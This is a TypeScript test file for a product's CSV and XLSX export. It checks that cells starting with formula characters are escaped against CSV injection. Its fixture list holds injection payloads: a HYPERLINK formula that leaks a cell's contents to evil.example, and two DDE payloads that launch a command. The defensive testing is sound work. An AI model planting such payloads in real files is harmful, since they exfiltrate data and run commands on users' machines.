import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testApp, type TestApp } from './support/test-app.ts';

/**
 * Issue 14, item 3: a spreadsheet program must never run what a user typed. Every CSV and XLSX the
 * product writes turns a text cell that begins with =, +, -, @, a tab or a carriage return into
 * text by a leading apostrophe (OWASP, CSV injection); numbers stay numbers; the stored value
 * stays exactly as typed.
 */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
] as const;

let t: TestApp;
/** Wuhai 2021 estates renamed to the formulas above, in id order. */
let wuhai: { id: number; name: string }[];

beforeAll(async () => {
  t = await testApp();
  const rows = await t.db.query<{ id: number }>(
    `SELECT e.id FROM estates e JOIN plans p ON p.id = e.plan_id WHERE p.slug = 'wuhai-2021' ORDER BY e.id LIMIT ${FORMULAS.length}`,
  );
  wuhai = rows.map((r, i) => ({ id: r.id, name: `${FORMULAS[i]!}` }));
  for (const e of wuhai) await t.db.query('UPDATE estates SET name = $2 WHERE id = $1', [e.id, e.name]);
  // Who answers for Wuhai's rows: typed as formulas too.
  await t.db.query(
    `UPDATE responsibilities SET person_in_charge = '=1+2', leader = '@A1' WHERE plan_id = (SELECT id FROM plans WHERE slug = 'wuhai-2021')`,
  );
});
afterAll(async () => t?.close());

const neutralised = (s: string) => `'${s}`;

describe('CSV scope export', () => {
  it('writes each formula-like name with a leading apostrophe, numbers and WKT as they are', async () => {
    const res = await t.request(`/api/export/scope?estateIds=${wuhai.map((e) => e.id).join(',')}&format=csv`);
    expect(res.status).toBe(200);
    const text = (await res.text()).replace(/^\uFEFF/, '');
    const [header, ...rows] = parse(text, { relax_column_count: true }) as string[][];
    const col = (name: string) => header!.indexOf(name);
    const estates = rows.filter((r) => r[col('layer')] === 'estate');
    expect(estates.map((r) => r[col('name')]).sort()).toEqual(wuhai.map((e) => neutralised(e.name)).sort());
    // Numbers and geometry are written as they are.
    for (const r of estates) {
      expect(r[col('id')]).toMatch(/^[1-9]\d*$/);
      expect(r[col('WKT')]).toMatch(/^(MULTIPOLYGON|POLYGON|)/);
    }
    // No cell of the file begins with a formula character.
    for (const r of [header!, ...rows]) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the stored name exactly as typed', async () => {
    for (const e of wuhai) {
      const got = await t.json<{ properties: { name: string } }>(`/api/estates/${e.id}`);
      expect(got.body.properties.name).toBe(e.name);
    }
  });
});

describe('ranking workbook (xlsx)', () => {
  it('writes formula-like text as text with a leading apostrophe, never a formula; figures stay numbers', async () => {
    const res = await t.request('/api/stats/ranking.xlsx?level=district&parent=1503&year=2021');
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const texts: string[] = [];
    let numbers = 0;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula, cell.address).toBeFalsy();
        if (typeof cell.value === 'string') texts.push(cell.value);
        if (typeof cell.value === 'number') numbers++;
      }),
    );
    // XML readers (exceljs here) normalise a carriage return in text to a line feed.
    for (const e of wuhai) expect(texts).toContain(neutralised(e.name).replace(/\r/g, '\n'));
    expect(texts).toContain("'=1+2");
    expect(texts).toContain("'@A1");
    for (const s of texts) expect(s, s).not.toMatch(/^[=+\-@\t\r]/);
    // Ranks, money and rates are numeric cells (the 合计 line at least has three).
    expect(numbers).toBeGreaterThan(3);
  });
});
